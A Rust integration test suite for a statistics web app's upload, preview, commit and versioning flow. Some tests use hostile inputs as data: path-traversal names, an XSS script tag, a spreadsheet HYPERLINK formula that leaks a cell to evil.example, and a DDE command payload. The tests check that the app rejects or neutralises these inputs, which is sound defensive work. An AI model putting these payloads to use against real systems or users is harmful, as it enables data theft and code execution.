//! The upload flow over HTTP against a real store in a temp dir: sign-in, validate → preview →
//! map → commit, versions kept, bad uploads rejected with the store byte-for-byte unchanged,
//! concurrency, restart persistence and a download → upload round-trip.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use axum::http::StatusCode;
use nqp::store::Store;

use crate::helpers::{
    Part, Response, Session, TestApp, existing_dataset, fixture, new_dataset, xlsx,
};

/// Upload the NBS export fixture as `name` into `cn-provinces-recent` (one new indicator).
async fn upload_nbs_export(app: &TestApp, session: &Session, name: &str) -> Response {
    let export = std::fs::read(fixture("csv/nbs_export_gbk_crlf.csv")).unwrap();
    let parts = existing_dataset("cn-provinces-recent", &[(name, &export)]);
    app.upload(session, &parts).await
}

fn location(res: &Response) -> String {
    res.headers["location"].to_str().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn reading_is_public_changing_needs_a_session() {
    let app = TestApp::with_store(1024 * 1024);
    let before = app.stored_files();
    let list = app.get("/datasets?lang=en").await;
    assert_eq!(list.status, StatusCode::OK);
    assert_eq!(list.count("form#login"), 1);
    assert!(list.body.contains("cn-provinces"));
    assert_eq!(
        app.get("/datasets/new?lang=en").await.status,
        StatusCode::UNAUTHORIZED
    );
    let anonymous = app
        .post_multipart(
            "/datasets/new",
            None,
            &[Part::File("files", "a.csv", b"region,year,x\nA,2020,1\n")],
        )
        .await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    let wrong = app
        .post_form("/login?lang=zh", None, &[("token", "nope")])
        .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    assert!(wrong.body.contains("访问令牌无效"));
    assert_eq!(app.stored_files(), before, "nothing stored");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let res = upload_nbs_export(&app, &session, "分省年度数据.csv").await;
    let preview_url = location(&res);
    let preview = app.preview(&session, &res).await;
    let file_row = preview.select_texts("table#files-table tbody td");
    assert_eq!(file_row[0], "gb18030");
    assert_eq!(file_row[1], "nbs");
    assert_eq!(preview.select_texts("#region-set"), vec!["cn-provinces"]);
    assert_eq!(
        preview.count("fieldset.mapping"),
        1,
        "one new indicator to map"
    );

    // Committed from a page that was showing another dataset: the new version replaces it.
    let commit_url =
        preview.select_attrs("form#commit", "action")[0].clone() + "&dataset=other&v=9";
    let res = app
        .post_form(
            &commit_url,
            Some(&session),
            &[
                ("csrf", &session.csrf),
                ("map.0.include", "on"),
                ("map.0.id", "rd_staff"),
                ("map.0.name_en", "R&D staff"),
                ("map.0.dimension", "laborers"),
                ("map.0.direction", "+"),
                ("map.0.unit", "万人"),
            ],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let view = location(&res);
    assert!(
        view.contains("dataset=cn-provinces-recent") && view.contains("v=2"),
        "{view}"
    );
    let page = app.get(&view).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.select_texts("footer").join(" ").contains("v2"));
    // The new indicator is in version 2's framework; version 1 is untouched and still served.
    let framework = app
        .get("/datasets/cn-provinces-recent/2/framework.toml")
        .await;
    assert!(framework.body.contains("id = \"rd_staff\""));
    assert!(
        framework
            .body
            .contains("aliases = [\"研究与试验发展(R&D)人员(人口抽样调查)\"]")
    );
    let v1 = app
        .get("/datasets/cn-provinces-recent/1/framework.toml")
        .await;
    assert!(!v1.body.contains("rd_staff"));
    assert_eq!(
        app.get("/?lang=en&dataset=cn-provinces-recent&v=1")
            .await
            .status,
        StatusCode::OK
    );
    let list = app.get("/datasets?lang=en").await;
    assert_eq!(
        list.count("#dataset-cn-provinces-recent table.versions tbody tr"),
        2
    );
    // The staged upload is gone once committed.
    assert_eq!(
        app.get_as(&preview_url, Some(&session)).await.status,
        StatusCode::NOT_FOUND
    );
}

/// Every malformed file of tests/fixtures/bad is rejected with a 4xx page naming the problem,
/// and the store is byte-for-byte what it was.
#[tokio::test(flavor = "multi_thread")]
async fn bad_uploads_change_nothing() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let before = app.stored_files();
    let mut checked = 0;
    let mut entries: Vec<_> = std::fs::read_dir(fixture("bad"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for path in entries {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name == "README.md" {
            continue;
        }
        let bytes = std::fs::read(&path).unwrap();
        let res = app
            .upload(&session, &new_dataset("bad-upload", &[(&name, &bytes)]))
            .await;
        // Some "bad" inputs are recoverable (blank lines, missing values): those validate and
        // are only staged — a preview, never a stored version.
        if res.status == StatusCode::SEE_OTHER {
            assert!(location(&res).contains("/datasets/uploads/"), "{name}");
        } else {
            assert!(res.status.is_client_error(), "{name}: {}", res.status);
            assert!(
                res.body.contains(&name) || res.status == StatusCode::UNPROCESSABLE_ENTITY,
                "{name}: {}",
                res.body
            );
            checked += 1;
        }
        assert_eq!(app.stored_files(), before, "{name} changed the store");
    }
    assert!(checked >= 25, "only {checked} bad files rejected");

    // More ways to be wrong.
    let good = b"region,year,indicator,value\nCN-BJ,2020,x,1\n".to_vec();
    let mut forged = vec![Part::Field("csrf", "forged")];
    forged.extend(new_dataset("a", &[("a.csv", &good)]));
    let cases: Vec<(&str, Response, StatusCode)> = vec![
        (
            "missing CSRF",
            app.post_multipart(
                "/datasets/new?lang=en",
                Some(&session),
                &new_dataset("a", &[("a.csv", &good)]),
            )
            .await,
            StatusCode::FORBIDDEN,
        ),
        (
            "wrong CSRF",
            app.post_multipart("/datasets/new?lang=en", Some(&session), &forged)
                .await,
            StatusCode::FORBIDDEN,
        ),
        (
            "no file",
            app.upload(&session, &new_dataset("a", &[])).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "bad dataset id",
            app.upload(&session, &new_dataset("../etc", &[("a.csv", &good)]))
                .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "id taken",
            app.upload(&session, &new_dataset("cn-provinces", &[("a.csv", &good)]))
                .await,
            StatusCode::CONFLICT,
        ),
        (
            "huge",
            app.upload(
                &session,
                &new_dataset("huge", &[("huge.csv", &vec![b'1'; 2 * 1024 * 1024])]),
            )
            .await,
            StatusCode::PAYLOAD_TOO_LARGE,
        ),
        (
            "same indicator twice across files",
            app.upload(
                &session,
                &new_dataset("dup", &[("a.csv", &good), ("b.csv", &good)]),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "commit without session",
            app.post_form(
                "/datasets/uploads/x/commit",
                None,
                &[("csrf", &session.csrf)],
            )
            .await,
            StatusCode::UNAUTHORIZED,
        ),
        (
            "delete without CSRF",
            app.post_form("/datasets/cn-provinces/delete", Some(&session), &[])
                .await,
            StatusCode::FORBIDDEN,
        ),
    ];
    for (what, res, status) in cases {
        assert_eq!(res.status, status, "{what}: {}", res.body);
        assert_eq!(app.stored_files(), before, "{what} changed the store");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_are_escaped_and_paths_ignored() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let csv = "region,year,indicator,value\nCN-BJ,2020,<script>alert(1)</script>,1\nCN-BJ,2021,<script>alert(1)</script>,2\n";
    let res = app
        .upload(
            &session,
            &new_dataset("xss", &[("../../../tmp/evil<b>.csv", csv.as_bytes())]),
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get_as(&location(&res), Some(&session)).await;
    assert_eq!(preview.count("script:not([src])"), 0);
    assert!(preview.body.contains("&lt;script&gt;") || preview.body.contains("&#60;script&#62;"));
    let names = preview.select_texts("table#files-table tbody th");
    assert_eq!(
        names,
        vec!["evil<b>.csv"],
        "directories stripped, shown as text"
    );
    assert!(!Path::new("/tmp/evil<b>.csv").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn download_then_upload_gives_the_same_scores_and_survives_a_restart() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let panel = app.get("/datasets/cn-provinces/1/panel.csv").await;
    assert_eq!(panel.status, StatusCode::OK);
    let framework = app.get("/datasets/cn-provinces/1/framework.toml").await;
    let mut parts = new_dataset("round-trip", &[("panel.csv", panel.body.as_bytes())]);
    parts.push(Part::File(
        "framework",
        "framework.toml",
        framework.body.as_bytes(),
    ));
    let res = app.upload(&session, &parts).await;
    let preview = app.preview(&session, &res).await;
    let res = app.commit(&session, &preview, &[]).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);

    let scores = |page: &Response| page.select_texts("table#rankings tbody tr td:nth-of-type(4)");
    let original = app
        .get("/?lang=en&dataset=cn-provinces&v=1&year=2019")
        .await;
    let copy = app.get("/?lang=en&dataset=round-trip&year=2019").await;
    assert_eq!(copy.status, StatusCode::OK);
    assert_eq!(scores(&original), scores(&copy));
    assert_eq!(scores(&copy).len(), 31);

    // Restart: a new state over the same data dir serves the same datasets.
    let again = TestApp::reopen(app.into_store_dir(), 1024 * 1024);
    let copy_again = again.get("/?lang=en&dataset=round-trip&year=2019").await;
    assert_eq!(scores(&copy_again), scores(&copy));
}

#[tokio::test(flavor = "multi_thread")]
async fn concurrent_uploads_both_commit() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let commit = |id: &'static str, n: u32| {
        let (session, csv) = (session.clone(), lto_csv(2020..2023, n));
        let app = &app;
        async move {
            let res = app
                .upload(&session, &new_dataset(id, &[("p.csv", csv.as_bytes())]))
                .await;
            let preview = app.preview(&session, &res).await;
            let form = lto_mapping();
            let pairs: Vec<(&str, &str)> =
                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            app.commit(&session, &preview, &pairs).await
        }
    };
    let (a, b) = tokio::join!(commit("one", 1), commit("two", 50));
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(b.status, StatusCode::SEE_OTHER, "{}", b.body);
    let list = app.get("/datasets?lang=en").await;
    assert_eq!(list.count("#dataset-one table.versions tbody tr"), 1);
    assert_eq!(list.count("#dataset-two table.versions tbody tr"), 1);
    // The rankings page offers every dataset; choosing one shows its latest version.
    let home = app.get("/?lang=en").await;
    let options = home.select_attrs("#dataset-select option", "value");
    assert_eq!(
        options,
        vec!["cn-provinces", "cn-provinces-recent", "one", "two"]
    );
    assert_eq!(
        home.count("form.controls input[type=hidden][name=dataset]"),
        0
    );
    let two = app.get("/?lang=en&dataset=two").await;
    assert_eq!(two.count("table#rankings tbody tr"), 3);
    assert_eq!(
        two.select_attrs("#dataset-select option[selected]", "value"),
        vec!["two"]
    );
}

/// Three provinces × `years` of the indicators `l`, `t`, `o`, values shifted by `shift`.
fn lto_csv(years: std::ops::Range<i32>, shift: u32) -> String {
    let mut csv = String::from("region,year,indicator,value\n");
    for (i, region) in ["CN-BJ", "CN-SH", "CN-GD"].iter().enumerate() {
        for year in years.clone() {
            for (k, ind) in ["l", "t", "o"].iter().enumerate() {
                let value = shift + (i * 7 + k * 3) as u32 + year as u32 % 5;
                csv.push_str(&format!("{region},{year},{ind},{value}\n"));
            }
        }
    }
    csv
}

/// The form fields that score the new indicators `l`, `t`, `o` (in the preview's name order).
fn lto_mapping() -> Vec<(String, String)> {
    let mut form = Vec::new();
    for (i, (ind, dim)) in [("l", "laborers"), ("o", "objects"), ("t", "tools")]
        .iter()
        .enumerate()
    {
        form.push((format!("map.{i}.include"), "on".into()));
        form.push((format!("map.{i}.id"), (*ind).into()));
        form.push((format!("map.{i}.dimension"), (*dim).into()));
        form.push((format!("map.{i}.direction"), "+".into()));
    }
    form
}

/// Upload `csv` into the stored dataset `id`; the commit URL of its preview.
async fn stage_existing(app: &TestApp, session: &Session, id: &str, csv: &str) -> String {
    let res = app
        .upload(
            session,
            &existing_dataset(id, &[("more.csv", csv.as_bytes())]),
        )
        .await;
    commit_url(app, session, &res).await
}

/// The commit URL of the preview a successful upload redirected to.
async fn commit_url(app: &TestApp, session: &Session, uploaded: &Response) -> String {
    let preview = app.preview(session, uploaded).await;
    preview.select_attrs("form#commit", "action")[0].clone()
}

/// Post both commit forms (with `fields`) at the same time: exactly one 303 and one 409.
/// Returns the 409 page and which of the two won.
async fn commit_race(
    app: &TestApp,
    session: &Session,
    urls: [String; 2],
    fields: &[(String, String)],
) -> (Response, usize) {
    let pairs: Vec<(&str, &str)> = std::iter::once(("csrf", session.csrf.as_str()))
        .chain(fields.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .collect();
    let (a, b) = tokio::join!(
        app.post_form(&urls[0], Some(session), &pairs),
        app.post_form(&urls[1], Some(session), &pairs)
    );
    let mut statuses = [a.status.as_u16(), b.status.as_u16()];
    statuses.sort();
    assert_eq!(statuses, [303, 409], "{} / {}", a.body, b.body);
    if a.status == StatusCode::SEE_OTHER {
        (b, 0)
    } else {
        (a, 1)
    }
}

/// Two previews of the same state committed at once through the pages: one is stored, the
/// other answers 409 telling the user (in Chinese or English) to review the upload again; sent
/// again it is stored on top, so nothing is lost.
#[tokio::test(flavor = "multi_thread")]
async fn concurrent_commits_store_one_and_ask_to_review_the_other() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;

    // A new dataset reviewed twice while its id was free; committed from Chinese pages.
    let csvs = [lto_csv(2020..2023, 1), lto_csv(2020..2023, 50)];
    let mut urls = Vec::new();
    for csv in &csvs {
        let res = app
            .upload(&session, &new_dataset("twin", &[("p.csv", csv.as_bytes())]))
            .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
        urls.push(
            commit_url(&app, &session, &res)
                .await
                .replace("lang=en", "lang=zh"),
        );
    }
    let urls: [String; 2] = urls.try_into().unwrap();
    assert!(urls[0].contains("lang=zh"), "{}", urls[0]);
    let (refused, winner) = commit_race(&app, &session, urls, &lto_mapping()).await;
    assert!(
        refused.body.contains("该数据集编号在此期间已被占用"),
        "{}",
        refused.body
    );
    let v1 = app.get("/datasets/twin/1/panel.csv").await.body;
    let first_row = format!("CN-BJ,2020,l,{}", [1, 50][winner]);
    assert!(v1.contains(&first_row), "{v1}");

    // Two new years reviewed against version 1; committed from English pages.
    let years = [lto_csv(2023..2024, 3), lto_csv(2024..2025, 9)];
    let urls = [
        stage_existing(&app, &session, "twin", &years[0]).await,
        stage_existing(&app, &session, "twin", &years[1]).await,
    ];
    let (refused, winner) = commit_race(&app, &session, urls.clone(), &[]).await;
    assert!(
        refused.body.contains("changed meanwhile")
            && refused.body.contains("review the upload again"),
        "{}",
        refused.body
    );
    // Its preview is stale, so the refused upload is not kept for a retry.
    let retry = app
        .post_form(
            &urls[1 - winner],
            Some(&session),
            &[("csrf", &session.csrf)],
        )
        .await;
    assert_eq!(retry.status, StatusCode::NOT_FOUND, "{}", retry.body);
    let list = app.get("/datasets?lang=en").await;
    assert_eq!(list.count("#dataset-twin table.versions tbody tr"), 2);

    // Reviewed again, the refused upload becomes version 3, on top of both earlier commits.
    let url = stage_existing(&app, &session, "twin", &years[1 - winner]).await;
    let res = app
        .post_form(&url, Some(&session), &[("csrf", &session.csrf)])
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let v3 = app.get("/datasets/twin/3/panel.csv").await.body;
    for year in ["2020", "2023", "2024"] {
        assert!(v3.contains(&format!("CN-GD,{year},o,")), "{year}: {v3}");
    }
    assert!(v3.contains(&first_row), "{v3}");
    assert_eq!(v3.lines().count(), 1 + 3 * 3 * 5);
}

/// The raw `panel.csv` of a version goes through the same formula-injection guard as the
/// `/download` routes: a name a spreadsheet would run as a formula gets a leading apostrophe,
/// numbers (negative ones too) stay numbers.
#[tokio::test(flavor = "multi_thread")]
async fn the_raw_panel_csv_neutralises_formulas() {
    let app = TestApp::with_store(1024 * 1024);
    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";
    let frame = polars::prelude::df!(
        "region" => ["CN-BJ", "@SUM(A1:A9)", "CN-SH"],
        "year" => [2020i32, 2020, 2021],
        "indicator" => [evil, "gdp", "-cmd|' /C calc'!A0"],
        "value" => [Some(1.5), Some(-2.25), None],
    )
    .unwrap();
    let panel = nqp::types::Panel::new(frame).unwrap();
    let id = nqp::types::DatasetId::new("evil").unwrap();
    Store::open(app.store_dir())
        .unwrap()
        .put_version(
            nqp::store::NewVersion {
                dataset: &id,
                base: nqp::store::Base::New,
                title_zh: "恶意",
                title_en: "Evil",
                panel: &panel,
                framework_toml: "",
                region_set_id: None,
                source_files: &[],
                note: "",
                revisions: &[],
            },
            "test",
        )
        .unwrap();
    let res = app.get("/datasets/evil/1/panel.csv").await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    assert_eq!(res.headers["content-type"], "text/csv; charset=utf-8");
    let bytes = res.body.into_bytes();
    let got = tokio::task::spawn_blocking(move || {
        use polars::prelude::*;
        CsvReader::new(std::io::Cursor::new(bytes))
            .finish()
            .unwrap()
    })
    .await
    .unwrap();
    let text = |name: &str| -> Vec<Option<String>> {
        let column = got.column(name).unwrap().str().unwrap().clone();
        column.iter().map(|v| v.map(str::to_owned)).collect()
    };
    let some =
        |v: &[&str]| -> Vec<Option<String>> { v.iter().map(|s| Some(s.to_string())).collect() };
    assert_eq!(text("region"), some(&["CN-BJ", "'@SUM(A1:A9)", "CN-SH"]));
    assert_eq!(
        text("indicator"),
        some(&[&format!("'{evil}"), "gdp", "'-cmd|' /C calc'!A0"])
    );
    let values: Vec<Option<f64>> = got.column("value").unwrap().f64().unwrap().iter().collect();
    assert_eq!(values, [Some(1.5), Some(-2.25), None]);
    let years: Vec<Option<i64>> = got.column("year").unwrap().i64().unwrap().iter().collect();
    assert_eq!(years, [Some(2020), Some(2020), Some(2021)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn delete_hides_a_dataset_but_keeps_its_files() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let res = app
        .post_form(
            "/datasets/cn-provinces/delete?lang=en",
            Some(&session),
            &[("csrf", &session.csrf)],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let list = app.get("/datasets?lang=en").await;
    assert_eq!(list.count("#dataset-cn-provinces"), 0);
    assert_eq!(
        app.get("/?dataset=cn-provinces&lang=en").await.status,
        StatusCode::NOT_FOUND
    );
    assert!(
        app.store_dir()
            .join("datasets/cn-provinces/1.parquet")
            .exists()
    );
}

fn shared_data() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/data")
}

/// Every real file under ../shared/data/cn-* goes through the browser upload: statistics files
/// validate with their 31 provinces; files that are not statistics tables (data dictionaries,
/// source records, R binaries) get a clear 4xx page and change nothing. Then four new NBS
/// indicators are committed as version 2 of the bundled dataset.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs ../shared/data"]
async fn every_real_file_uploads_through_http() {
    let app = TestApp::with_store(64 * 1024 * 1024);
    let session = app.sign_in().await;
    let before = app.stored_files();
    let not_tables = [
        "openclimate_ceads_provinces_DataSource.csv",
        "openclimate_ceads_provinces_DataSourceTag.csv",
        "openclimate_ceads_provinces_Publisher.csv",
        "openclimate_ceads_provinces_Tag.csv",
        // CEADs names its region column `actor_id`; the error says which columns it found.
        "openclimate_ceads_provinces_EmissionsAgg.csv",
        "techme_BasicProvince.csv",
        "techme_varsList_v4_v6.csv",
    ];
    let mut files = Vec::new();
    for dir in [
        "cn-nbs-exports",
        "cn-nbs-population",
        "cn-st-yearbook",
        "cn-st-yearbook/rda",
        "cn-co2-ceads",
    ] {
        for entry in std::fs::read_dir(shared_data().join(dir)).unwrap() {
            let path = entry.unwrap().path();
            if path.is_file() {
                files.push(path);
            }
        }
    }
    files.sort();
    assert!(files.len() >= 45, "found only {} files", files.len());
    let (mut staged, mut rejected) = (0, 0);
    for path in &files {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(path).unwrap();
        let res = app
            .upload(&session, &new_dataset("real-file", &[(&name, &bytes)]))
            .await;
        let is_table = name.ends_with(".csv") && !not_tables.contains(&name.as_str());
        if is_table {
            assert_eq!(res.status, StatusCode::SEE_OTHER, "{name}: {}", res.body);
            let preview = app.get_as(&location(&res), Some(&session)).await;
            assert_eq!(preview.select_texts("#regions-count"), vec!["31"], "{name}");
            staged += 1;
        } else {
            assert!(res.status.is_client_error(), "{name}: {}", res.status);
            assert!(res.body.contains(&name), "{name}: the error names the file");
            rejected += 1;
        }
        assert_eq!(app.stored_files(), before, "{name} changed the store");
    }
    assert_eq!(
        staged,
        8 + 2 + 14,
        "NBS exports, population files and yearbook tables"
    );
    assert!(
        rejected >= 7 + 16,
        "metadata files and the .rda / .xlsx binaries"
    );

    // Four indicators the bundled dataset lacks, committed as its version 2.
    let new_exports = [
        "nbs_fsnd_population_65plus_sample_survey.csv",
        "nbs_fsnd_private_individual_employment.csv",
        "nbs_fsnd_fai_funds_growth.csv",
        // (public-sector staff covers 2006–2011 only: outside the dataset's years, not merged)
        "nbs_fsnd_population_sample_survey.csv",
    ];
    let contents: Vec<Vec<u8>> = new_exports
        .iter()
        .map(|f| std::fs::read(shared_data().join("cn-nbs-exports").join(f)).unwrap())
        .collect();
    let mut parts = vec![
        Part::Field("csrf", &session.csrf),
        Part::Field("target", "existing"),
        Part::Field("existing_id", "cn-provinces"),
    ];
    for (name, bytes) in new_exports.iter().zip(&contents) {
        parts.push(Part::File("files", name, bytes));
    }
    let res = app
        .post_multipart("/datasets/new?lang=zh", Some(&session), &parts)
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get_as(&location(&res), Some(&session)).await;
    assert_eq!(
        preview.count("fieldset.mapping"),
        4,
        "four new indicators to map"
    );
    let commit_url = preview.select_attrs("form#commit", "action")[0].clone();
    let mut form: Vec<(String, String)> = vec![("csrf".into(), session.csrf.clone())];
    for (i, dim) in ["laborers", "laborers", "tools", "laborers"]
        .iter()
        .enumerate()
    {
        form.push((format!("map.{i}.include"), "on".into()));
        form.push((format!("map.{i}.id"), format!("nbs_new_{i}")));
        form.push((format!("map.{i}.dimension"), (*dim).into()));
        form.push((format!("map.{i}.direction"), "+".into()));
    }
    let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let res = app.post_form(&commit_url, Some(&session), &pairs).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    assert!(location(&res).contains("v=2"));
    let page = app.get(&location(&res)).await;
    assert_eq!(page.status, StatusCode::OK);
    let framework = app.get("/datasets/cn-provinces/2/framework.toml").await;
    for i in 0..4 {
        assert!(framework.body.contains(&format!("id = \"nbs_new_{i}\"")));
    }
    let v1 = app.get("/datasets/cn-provinces/1/panel.csv").await;
    let v2 = app.get("/datasets/cn-provinces/2/panel.csv").await;
    assert!(v2.body.lines().count() > v1.body.lines().count());
    assert!(v2.body.contains("65岁及以上人口数(人口抽样调查)"));
    // The exports cover 2006–2024; the version keeps the dataset's 2013–2019.
    let years: std::collections::BTreeSet<&str> = v2
        .body
        .lines()
        .skip(1)
        .filter_map(|l| l.split(',').nth(1))
        .collect();
    assert_eq!(years.first(), Some(&"2013"));
    assert_eq!(years.last(), Some(&"2019"));
    let v2_scores = app
        .get("/methodology?lang=en&dataset=cn-provinces&v=2")
        .await;
    assert!(
        v2_scores.body.contains("rd_intensity"),
        "the old indicators are still scored"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn one_upload_commits_once_even_when_submitted_twice_at_once() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let res = upload_nbs_export(&app, &session, "export.csv").await;
    let preview = app.preview(&session, &res).await;
    let url = preview.select_attrs("form#commit", "action")[0].clone();
    let form = [
        ("csrf", session.csrf.as_str()),
        ("map.0.include", "on"),
        ("map.0.id", "rd_staff"),
        ("map.0.dimension", "laborers"),
        ("map.0.direction", "+"),
    ];
    let (a, b) = tokio::join!(
        app.post_form(&url, Some(&session), &form),
        app.post_form(&url, Some(&session), &form)
    );
    let statuses = [a.status, b.status];
    assert_eq!(
        statuses
            .iter()
            .filter(|s| **s == StatusCode::SEE_OTHER)
            .count(),
        1,
        "{statuses:?}"
    );
    assert!(statuses.iter().any(|s| s.is_client_error()), "{statuses:?}");
    let list = app.get("/datasets?lang=en").await;
    assert_eq!(
        list.count("#dataset-cn-provinces-recent table.versions tbody tr"),
        2,
        "v1 + one commit"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_excel_workbook_uploads_like_a_csv() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let mut cells: Vec<[String; 4]> = Vec::new();
    for region in ["北京市", "上海市", "广东省"] {
        for year in [2021, 2022] {
            for (k, ind) in ["l", "t", "o"].iter().enumerate() {
                let value = (cells.len() + 1) as f64 + k as f64 * 0.5;
                cells.push([
                    region.into(),
                    year.to_string(),
                    (*ind).into(),
                    value.to_string(),
                ]);
            }
        }
    }
    let mut rows: Vec<Vec<&str>> = vec![vec!["region", "year", "indicator", "value"]];
    rows.extend(cells.iter().map(|c| c.iter().map(String::as_str).collect()));
    let rows: Vec<&[&str]> = rows.iter().map(Vec::as_slice).collect();
    let bytes = xlsx(&rows);
    let res = app
        .upload(
            &session,
            &new_dataset("from-excel", &[("data.xlsx", &bytes)]),
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get_as(&location(&res), Some(&session)).await;
    let cells = preview.select_texts("table#files-table tbody td");
    assert_eq!(cells[0], "spreadsheet");
    assert_eq!(cells[1], "long");
    assert_eq!(preview.select_texts("#region-set"), vec!["cn-provinces"]);
    assert_eq!(preview.select_texts("#regions-count"), vec!["3"]);
    assert_eq!(preview.count("fieldset.mapping"), 3);
}

/// The whole flow in the user's four steps: sign in, upload, preview, commit — the stored
/// version holds exactly the uploaded values.
#[tokio::test(flavor = "multi_thread")]
async fn a_new_dataset_in_four_steps() {
    let app = TestApp::with_store(1024 * 1024);
    let session = app.sign_in().await;
    let csv = lto_csv(2020..2023, 7);
    let files = [("p.csv", csv.as_bytes())];
    let uploaded = app.upload(&session, &new_dataset("four", &files)).await;
    let preview = app.preview(&session, &uploaded).await;
    assert_eq!(preview.count("fieldset.mapping"), 3);
    let before = app.stored_files();
    let form = lto_mapping();
    let fields: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let committed = app.commit(&session, &preview, &fields).await;
    assert_eq!(
        committed.status,
        StatusCode::SEE_OTHER,
        "{}",
        committed.body
    );
    assert_ne!(app.stored_files(), before, "a version was written");
    let stored = app.get("/datasets/four/1/panel.csv").await.body;
    // Each (region, year, indicator) with its value, as stored and as uploaded.
    let values = |t: &str| -> BTreeMap<String, f64> {
        let split = |l: &str| {
            l.rsplit_once(',')
                .map(|(k, v)| (k.to_owned(), v.parse().unwrap()))
        };
        t.lines().skip(1).filter_map(split).collect()
    };
    assert_eq!(values(&stored), values(&csv));
}
